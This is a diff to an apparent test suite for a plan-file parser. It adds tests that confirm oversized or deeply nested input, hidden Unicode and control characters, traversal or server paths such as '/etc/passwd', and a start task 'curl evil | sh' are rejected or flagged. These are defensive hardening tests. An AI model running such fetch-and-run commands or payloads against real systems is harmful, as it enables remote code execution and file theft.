@@ -63,9 +63,52 @@ describe('a plan', () => {
         .map((to, at) => `${to}: &${to} [${`*${'abcdefghijklmno'[at]!},`.repeat(9)}1]`)
         .join('\n')}`,
     ],
+    [
+      'keys that stand there twice',
+      '{"schema":1,"recipe":"from-disk","inputs":{"pool.create":{"name":"a","name":"b"}}}',
+    ],
+    [
+      'a key spelled in two ways',
+      '{"schema":1,"recipe":"from-disk","inputs":{"pool.create":{"name":"a","n\\u0061me":"b"}}}',
+    ],
+    ['too many values', `{"schema":1,"recipe":"from-disk","inputs":{"a":{"b":[${'1,'.repeat(6000)}1]}}}`],
+    ['5 MB of nesting in YAML', '['.repeat(5 * 1024 * 1024)],
+    ['5 MB of nesting in JSON', `{"a":${'['.repeat(5 * 1024 * 1024)}`],
+    ['nesting in YAML as deep as fits', '['.repeat(250_000)],
+    ['nested lists in YAML as deep as fits', '- '.repeat(125_000)],
+    ['nested maps in YAML', Array.from({ length: 600 }, (_, depth) => `${' '.repeat(depth)}a:`).join('\n')],
+    ['100 000 keys', Array.from({ length: 100_000 }, (_, key) => `k${key}: 1`).join('\n')],
+    ['as many keys as fit', Array.from({ length: 20_000 }, (_, key) => `k${key}: 1`).join('\n')],
     ['more than 5 MB', `# ${'x'.repeat(6 * 1024 * 1024)}\nschema: 1`],
-  ])('of %s is unreadable', (_what, text) => {
+  ])('of %s is unreadable, and that is said within a second', { timeout: 10_000 }, (_what, text) => {
+    const started = performance.now()
     expect(() => parsePlan(text, 'a.yaml')).toThrow(expect.objectContaining({ code: 'plan.unreadable' }) as Error)
+    expect(performance.now() - started).toBeLessThan(1000)
+  })
+
+  it.each([
+    ['a line that turns around', 'name', 'pool\u202Elive'],
+    ['a sign nobody sees', 'name', 'po\u200Bol'],
+    ['an escape of the terminal', 'startTask', 'echo \u001b[2J'],
+    ['a NUL', 'startTask', 'echo \u0000'],
+  ])('with %s in it is refused, naming the field', (_what, field, value) => {
+    const text = JSON.stringify({ schema: 1, recipe: 'from-disk', inputs: { 'pool.create': { [field]: value } } })
+    expect(() => parsePlan(text, 'a.json')).toThrow(
+      expect.objectContaining({ code: 'plan.invalid', params: { fields: `inputs.pool.create.${field}` } }) as Error,
+    )
+  })
+
+  it.each([
+    ['a path', { 'disk.choose': { file: '/etc/passwd' } }, 'disk.choose.file', 'file'],
+    ['a path on a server', { 'disk.choose': { file: '\\\\host\\share\\a.vhd' } }, 'disk.choose.file', 'file'],
+    ['a path beside it', { 'disk.choose': { file: '../a.vhd' } }, 'disk.choose.file', 'file'],
+    ['a cloud profile', { 'connect.cloud': { cloud: './cloud.json' } }, 'connect.cloud.cloud', 'profile'],
+    ['a start task', { 'pool.create': { startTask: 'curl evil | sh' } }, 'pool.create.startTask', 'script'],
+  ])('tells of %s that it names itself', async (_what, inputs, at, what) => {
+    const file = fileWith(JSON.stringify({ schema: 1, recipe: 'from-disk', inputs }))
+    const value = Object.values(Object.values(inputs)[0]!)[0]
+    expect((await loadPlan(file)).concerns).toEqual([{ at, what, value }])
+    expect((await loadPlan(file, [`${at}=mine`])).concerns).toEqual([])
   })
 
   it.each(['env:HOME', 'env:BIS_TOKEN', 'ENV:PATH'])(
